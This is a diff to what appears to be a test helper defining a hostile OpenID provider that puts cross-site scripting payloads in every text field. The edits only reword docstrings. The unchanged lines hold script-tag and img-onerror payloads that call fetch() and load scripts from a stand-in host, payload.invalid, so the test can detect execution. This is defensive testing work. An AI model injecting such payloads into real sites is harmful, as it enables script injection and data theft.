@@ -1,4 +1,4 @@
-"""An OpenID provider that puts hostile text wherever a provider has a word to say."""
+"""An OpenID provider with hostile text in every text field."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from tests.oauth.servers import Seen, Server, reply
 MARK = "MARK"
 ELSEWHERE = "https://payload.invalid"
 RUN = f"executed('{MARK}');fetch('{ELSEWHERE}/f');alert(1)"
-"""What a payload that gets to run would do; each of the three is noticed."""
+"""What an executed payload would do; each of the three is detected."""
 TEXTS = {
     "script": f"{MARK}<script>{RUN}</script><script src={ELSEWHERE}/s></script>",
     "image": f'{MARK}<img src=x onerror="{RUN}"><img src={ELSEWHERE}/i>',
@@ -51,9 +51,9 @@ ADDRESSES = [
 
 @dataclass
 class HostileProvider:
-    """Its answers in full carry ``text``; a poll of the token endpoint ends as ``turn`` says.
+    """All its responses contain ``text``; ``turn`` selects the result of a poll.
 
-    ``turn``: "pending", "refuse" or "grant". ``address`` takes the place of its own addresses.
+    ``turn``: "pending", "refuse" or "grant". ``address`` replaces its addresses.
     """
 
     certificates: Certificates
